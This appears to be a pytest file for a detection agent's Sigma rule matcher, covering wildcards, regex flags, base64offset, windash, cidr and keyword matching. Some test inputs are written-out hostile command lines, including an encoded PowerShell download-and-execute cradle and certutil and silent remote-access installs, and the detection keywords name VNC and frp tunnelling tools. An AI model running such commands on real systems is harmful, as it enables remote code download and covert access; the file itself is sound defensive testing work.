"""Every value modifier and value kind of the Sigma specification, each with hits and misses."""

from __future__ import annotations

import base64
import time

import pytest

from agent.sensors.observations import ProcessStarted
from tests.agent.rules.builders import conn, hits, proc

CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"


def cmd(line: str, exe: str = r"C:\Windows\System32\cmd.exe") -> ProcessStarted:
    return proc(exe, line)


# ---------------------------------------------------------------- plain strings and wildcards


@pytest.mark.parametrize(
    ("value", "line", "expected"),
    [
        ("'abc'", "abc", True),
        ("'abc'", "ABC", True),  # case-insensitive by default
        ("'abc'", "abcd", False),  # equality is not a substring test
        ("'ab*'", "abXYZ", True),
        ("'*bc'", "XYZbc", True),
        ("'a*c'", "a-long-way-to-c", True),
        ("'a*c'", "a-long-way-to-d", False),
        ("'a?c'", "abc", True),
        ("'a?c'", "ac", False),  # ? is exactly one character
        ("'a?c'", "abbc", False),
        (r"'a\*c'", "a*c", True),  # escaped wildcard is a literal
        (r"'a\*c'", "abc", False),
        (r"'a\?c'", "a?c", True),
        (r"'a\?c'", "abc", False),
        (r"'C:\\*'", "C:\\Windows", True),  # escaped backslash followed by a wildcard
        ("'*'", "anything", True),
        ("'Straße'", "STRASSE", True),  # Unicode case folding, not just ASCII
        ("'按键精灵'", "按键精灵", True),
    ],
)
def test_plain_values_and_wildcards(value: str, line: str, expected: bool) -> None:
    assert hits(f"sel:\n  CommandLine: {value}\ncondition: sel", cmd(line)) is expected


def test_wildcard_value_does_not_match_an_absent_field() -> None:
    assert hits("sel:\n  OriginalFileName: '*'\ncondition: sel", cmd("x")) is False


@pytest.mark.parametrize(
    ("modifier", "line", "expected"),
    [
        ("contains", "run EVIL now", True),
        ("contains", "run good now", False),
        ("startswith", "evil at start", True),
        ("startswith", "not evil at start", False),
        ("endswith", "ends with evil", True),
        ("endswith", "evil does not end", False),
    ],
)
def test_contains_startswith_endswith(modifier: str, line: str, expected: bool) -> None:
    assert hits(f"sel:\n  CommandLine|{modifier}: 'evil'\ncondition: sel", cmd(line)) is expected


def test_contains_with_an_inner_wildcard() -> None:
    detection = "sel:\n  CommandLine|contains: '--user-data-dir=*scoped_dir'\ncondition: sel"
    assert hits(detection, cmd(r'chrome.exe --user-data-dir="C:\Temp\scoped_dir123_4" about:blank'))
    assert not hits(detection, cmd(r"chrome.exe --user-data-dir=C:\Profiles\alice"))


# ---------------------------------------------------------------- lists, all, cased, neq


def test_a_list_of_values_is_an_or() -> None:
    detection = "sel:\n  CommandLine|contains:\n    - alpha\n    - beta\ncondition: sel"
    assert hits(detection, cmd("x beta y"))
    assert not hits(detection, cmd("x gamma y"))


def test_all_modifier_requires_every_value() -> None:
    detection = "sel:\n  CommandLine|contains|all:\n    - '--install'\n    - '--silent'\ncondition: sel"
    assert hits(detection, cmd("AnyDesk.exe --silent --install C:\\x"))
    assert not hits(detection, cmd("AnyDesk.exe --install C:\\x"))


def test_cased_modifier_is_case_sensitive() -> None:
    detection = "sel:\n  CommandLine|contains|cased: 'PowerShell'\ncondition: sel"
    assert hits(detection, cmd("run PowerShell now"))
    assert not hits(detection, cmd("run powershell now"))


def test_neq_modifier_negates_the_item() -> None:
    detection = "sel:\n  Image|endswith: '.exe'\n  User|neq: 'NT AUTHORITY\\SYSTEM'\ncondition: sel"
    assert hits(detection, proc(r"C:\x\a.exe", "a", user="OUTLET\\clerk"))
    assert not hits(detection, proc(r"C:\x\a.exe", "a", user="nt authority\\system"))


# ---------------------------------------------------------------- regular expressions


@pytest.mark.parametrize(
    ("key", "pattern", "line", "expected"),
    [
        ("re", r"'://[0-9]{1,3}\.[0-9]{1,3}'", "curl http://10.1.2.3/x", True),  # found anywhere
        ("re", r"'://[0-9]{1,3}\.[0-9]{1,3}'", "curl http://example.com/x", False),
        ("re", "'Invoke-Expression'", "invoke-expression $x", False),  # case-sensitive by default
        ("re|i", "'Invoke-Expression'", "invoke-expression $x", True),
        ("re", "'^second'", "first\nsecond", False),
        ("re|m", "'^second'", "first\nsecond", True),  # multi-line: ^ at each line
        ("re", "'first.second'", "first\nsecond", False),
        ("re|s", "'first.second'", "first\nsecond", True),  # dot-all: . matches a newline
        ("re|i|m", "'^SECOND$'", "first\nsecond\nthird", True),
    ],
)
def test_regular_expressions_and_their_flags(key: str, pattern: str, line: str, expected: bool) -> None:
    assert hits(f"sel:\n  CommandLine|{key}: {pattern}\ncondition: sel", cmd(line)) is expected


def test_regex_with_contains_is_still_a_search() -> None:
    assert hits("sel:\n  CommandLine|re|contains: 'a+b'\ncondition: sel", cmd("xx aaab yy"))


# ---------------------------------------------------------------- windash


@pytest.mark.parametrize(
    "line",
    [
        "certutil -encode a b",
        "certutil /encode a b",
        "certutil \u2013encode a b",  # en dash
        "certutil \u2014encode a b",  # em dash
        "certutil \u2015encode a b",  # horizontal bar
    ],
)
def test_windash_matches_every_dash_variant(line: str) -> None:
    assert hits("sel:\n  CommandLine|windash|contains: ' -encode '\ncondition: sel", cmd(line))


def test_windash_does_not_match_without_a_dash() -> None:
    assert not hits("sel:\n  CommandLine|windash|contains: ' -encode '\ncondition: sel", cmd("certutil encode a b"))


def test_windash_with_all_keeps_each_value_an_or_of_its_variants() -> None:
    detection = "sel:\n  CommandLine|windash|contains|all:\n    - ' -a '\n    - ' -b '\ncondition: sel"
    assert hits(detection, cmd("tool /a \u2013b x"))
    assert not hits(detection, cmd("tool /a x"))


# ---------------------------------------------------------------- base64


def _b64(text: str, *, wide: bool = False) -> str:
    return base64.b64encode(text.encode("utf-16-le" if wide else "utf-8")).decode()


@pytest.mark.parametrize("prefix", ["", "x", "xy", "Some longer prefix: "])
def test_base64offset_finds_the_value_at_any_byte_offset(prefix: str) -> None:
    encoded = _b64(prefix + "IEX (New-Object Net.WebClient).DownloadString('http://x')")
    detection = "sel:\n  CommandLine|base64offset|contains: 'New-Object Net.WebClient'\ncondition: sel"
    assert hits(detection, cmd(f"powershell -enc {encoded}"))


def test_base64offset_misses_other_content() -> None:
    detection = "sel:\n  CommandLine|base64offset|contains: 'New-Object Net.WebClient'\ncondition: sel"
    assert not hits(detection, cmd(f"powershell -enc {_b64('Get-ChildItem C:/Users')}"))


@pytest.mark.parametrize("prefix", ["", "a", "ab"])
def test_wide_base64offset_finds_utf16_powershell_payloads(prefix: str) -> None:
    encoded = _b64(prefix + "Invoke-WebRequest -Uri http://x", wide=True)
    detection = "sel:\n  CommandLine|wide|base64offset|contains: 'Invoke-WebRequest'\ncondition: sel"
    assert hits(detection, cmd(f"powershell.exe -EncodedCommand {encoded}"))
    assert not hits(detection, cmd(f"powershell.exe -EncodedCommand {_b64('Invoke-WebRequest')}"))


def test_base64_matches_the_exact_encoding() -> None:
    detection = "sel:\n  CommandLine|base64|contains: 'whoami'\ncondition: sel"
    assert hits(detection, cmd(f"x {_b64('whoami')} y"))
    assert not hits(detection, cmd(f"x {_b64('hostname')} y"))


def test_base64_is_case_sensitive_although_strings_are_not() -> None:
    # Base64 text differs by case ("d2hvYW1p" vs "D2HVyw1P"); pySigma gives plain strings, which we
    # match case-insensitively like every other string, so a case-flipped blob still hits. Pin it.
    detection = "sel:\n  CommandLine|base64|contains: 'whoami'\ncondition: sel"
    assert hits(detection, cmd(f"x {_b64('whoami').swapcase()} y"))


# ---------------------------------------------------------------- numbers, booleans, null, exists, cidr


@pytest.mark.parametrize(
    ("detection", "port", "expected"),
    [
        ("DestinationPort: 3389", 3389, True),
        ("DestinationPort: 3389", 3390, False),
        ("DestinationPort: '3389'", 3389, True),  # quoted number compares as a string
        ("DestinationPort|gt: 1024", 8080, True),
        ("DestinationPort|gt: 1024", 443, False),
        ("DestinationPort|gte: 443", 443, True),
        ("DestinationPort|lt: 1024", 443, True),
        ("DestinationPort|lte: 442", 443, False),
        ("DestinationPort:\n    - 5900\n    - 5901", 5901, True),
    ],
)
def test_numbers_and_comparisons(detection: str, port: int, expected: bool) -> None:
    assert hits(f"sel:\n  {detection}\ncondition: sel", conn(remote_port=port)) is expected


@pytest.mark.parametrize(
    ("value", "direction", "expected"),
    [
        ("'true'", "outbound", True),
        ("'true'", "inbound", False),
        ("true", "outbound", True),  # YAML boolean
        ("false", "inbound", True),
        ("false", "outbound", False),
    ],
)
def test_booleans(value: str, direction: str, expected: bool) -> None:
    assert hits(f"sel:\n  Initiated: {value}\ncondition: sel", conn(direction=direction)) is expected


def test_null_matches_an_absent_field_only() -> None:
    detection = "sel:\n  Image|endswith: '.exe'\n  OriginalFileName: null\ncondition: sel"
    assert hits(detection, proc(r"C:\x\tool.exe", "tool"))
    assert not hits(detection, proc(r"C:\x\tool.exe", "tool", original_file_name="tool.exe"))


def test_an_empty_command_line_counts_as_absent() -> None:
    assert hits("sel:\n  CommandLine: null\ncondition: sel", proc(r"C:\x\tool.exe", ()))
    assert not hits("sel:\n  CommandLine: ''\ncondition: sel", proc(r"C:\x\tool.exe", ()))


@pytest.mark.parametrize(("exists", "sha", "expected"), [("true", "ab" * 32, True), ("true", None, False),
                                                          ("false", None, True), ("false", "ab" * 32, False)])
def test_exists(exists: str, sha: str | None, expected: bool) -> None:
    event = proc(r"C:\x\tool.exe", "tool", sha256=sha)
    assert hits(f"sel:\n  Hashes|exists: {exists}\ncondition: sel", event) is expected


@pytest.mark.parametrize(
    ("network", "address", "expected"),
    [
        ("10.0.0.0/8", "10.20.30.40", True),
        ("10.0.0.0/8", "11.0.0.1", False),
        ("192.168.0.0/16", "::ffff:192.168.5.5", True),  # IPv4-mapped IPv6 is the IPv4 address
        ("fc00::/7", "fd12:3456::1", True),
        ("fc00::/7", "2001:db8::1", False),
        ("10.0.0.0/8", "fd00::1", False),  # other family
        ("fe80::/10", "fe80::1%eth0", True),  # zone index ignored
    ],
)
def test_cidr(network: str, address: str, expected: bool) -> None:
    detection = f"sel:\n  DestinationIp|cidr: '{network}'\ncondition: sel"
    assert hits(detection, conn(remote_ip=address)) is expected


def test_cidr_on_a_value_that_is_not_an_address_is_no_match() -> None:
    assert not hits("sel:\n  CommandLine|cidr: '10.0.0.0/8'\ncondition: sel", cmd("10.0.0.1 is not alone"))


# ---------------------------------------------------------------- keywords


def test_keywords_are_searched_in_every_field() -> None:
    detection = "keywords:\n  - 'tvnserver'\n  - 'x11vnc'\ncondition: keywords"
    assert hits(detection, proc("/usr/bin/x11vnc", "x11vnc -forever"))
    assert hits(detection, proc(r"C:\Tools\renamed.exe", "renamed", parent_exe=r"C:\VNC\tvnserver.exe"))
    assert not hits(detection, proc(r"C:\Windows\notepad.exe", "notepad"))


def test_keywords_with_all_need_every_keyword_somewhere() -> None:
    detection = "keywords:\n  '|all':\n    - 'frpc'\n    - '.toml'\ncondition: keywords"
    assert hits(detection, proc("/opt/frp/frpc", "/opt/frp/frpc -c /opt/frp/frpc.toml"))
    assert not hits(detection, proc("/opt/frp/frpc", "/opt/frp/frpc -c /opt/frp/frpc.ini"))


def test_keyword_number_is_searched_as_text() -> None:
    detection = "keywords:\n  - 5900\ncondition: keywords"
    assert hits(detection, cmd("x11vnc -rfbport 5900"))
    assert not hits(detection, cmd("x11vnc -rfbport 5901"))


# ---------------------------------------------------------------- patterns from policy cannot stall the sensor


def test_backtracking_regex_runs_in_linear_time() -> None:
    # `(a+)+$` takes Python's re seconds on 30 characters; rule patterns run on RE2 instead.
    started = time.perf_counter()
    assert not hits("sel:\n  CommandLine|re: '(a+)+$'\ncondition: sel", cmd("a" * 50_000 + "!"))
    assert time.perf_counter() - started < 2.0


def test_many_wildcards_run_in_linear_time() -> None:
    started = time.perf_counter()
    assert not hits("sel:\n  CommandLine: '*a*a*a*a*a*a*a*a*b'\ncondition: sel", cmd("a" * 20_000))
    assert time.perf_counter() - started < 2.0


def test_posix_class_in_a_regex_is_honoured_and_not_mistaken_for_a_literal() -> None:
    detection = "sel:\n  CommandLine|re: 'x[[:digit:]]yz'\ncondition: sel"
    assert hits(detection, cmd("run x5yz"))
    assert not hits(detection, cmd("run xyyz"))
